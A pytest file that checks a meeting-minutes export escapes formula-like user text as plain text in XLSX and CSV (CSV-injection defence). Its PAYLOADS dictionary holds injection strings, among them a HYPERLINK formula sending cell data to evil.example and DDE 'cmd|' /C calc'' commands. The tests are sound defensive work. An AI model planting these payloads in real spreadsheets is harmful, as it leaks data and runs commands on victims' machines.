"""Formula injection: text people write (a speech title, an aspect title, a display name, a sub-topic)
that looks like a formula is a plain text cell in the XLSX and CSV exports (OWASP's CSV-injection rule);
numbers and dates stay typed cells."""

import csv
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from consultation.spreadsheets import FORMULA_PREFIXES, spreadsheet_text
from departments.models import Aspect
from meetings.minutes.document import Minutes
from meetings.minutes.writers import WRITERS

PAYLOADS = {
    "speech title": '=HYPERLINK("https://evil.example/?x="&A1,"详情")',
    "aspect title": "+cmd|' /C calc'!A0",
    "display name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sub-topic": "  -2+3",  # after leading whitespace too
    "second sub-topic": "\t=1+1",
    "full-width": "＝HYPERLINK(\"https://evil.example\")",
}


@pytest.fixture
def hostile(meeting):
    s1, s2, s3 = meeting.speeches
    s1.title = PAYLOADS["speech title"]
    s1.save()
    Aspect.objects.filter(post=s3, order=1).update(title=PAYLOADS["aspect title"])
    Aspect.objects.filter(post=s3, order=2).update(title=PAYLOADS["full-width"])
    member = meeting.people["member"]
    member.display_name = PAYLOADS["display name"]
    member.save()
    for post, payload in ((s1, PAYLOADS["sub-topic"]), (s3, PAYLOADS["second sub-topic"])):
        post.subtopic.title = payload
        post.subtopic.save()
    return meeting


def compile_to(meeting, tmp_path, fmt, internal=False):
    path = tmp_path / f"minutes.{fmt}"
    WRITERS[fmt](Minutes(meeting.consultation, internal=internal), path)
    return path


def looks_like_a_formula(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES) or text.lstrip().startswith(FORMULA_PREFIXES)


@pytest.mark.parametrize("internal", [False, True])
def test_xlsx_cells_are_text_never_formulas(hostile, tmp_path, internal):
    book = load_workbook(str(compile_to(hostile, tmp_path, "xlsx", internal)))
    sheet = book.worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if looks_like_a_formula(text)]
    for payload in PAYLOADS.values():
        assert "'" + payload in texts  # kept, readable, with the apostrophe that makes it text
    # numbers and dates stay typed
    numbers = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert numbers == [1, 1, 2, 3]  # one row per aspect and department: the first aspect has two
    assert isinstance(sheet.cell(row=2, column=5).value, datetime | date)


def test_csv_fields_are_text_never_formulas(hostile, tmp_path):
    raw = compile_to(hostile, tmp_path, "csv", internal=True).read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(raw.splitlines()))
    fields = [field for row in rows for field in row]
    assert not [field for field in fields if looks_like_a_formula(field)]
    for payload in PAYLOADS.values():
        if "\t" not in payload:
            assert "'" + payload in fields
    assert rows[1][0] == "1"


def test_the_one_rule():
    assert spreadsheet_text("=1+1") == "'=1+1"
    assert spreadsheet_text(" @x") == "' @x"
    assert spreadsheet_text("\r=1") == "'\r=1" and spreadsheet_text("\tabc") == "'\tabc"
    assert spreadsheet_text("关于-建议") == "关于-建议"
    assert spreadsheet_text("") == ""
    assert spreadsheet_text(-5) == -5 and spreadsheet_text(None) is None
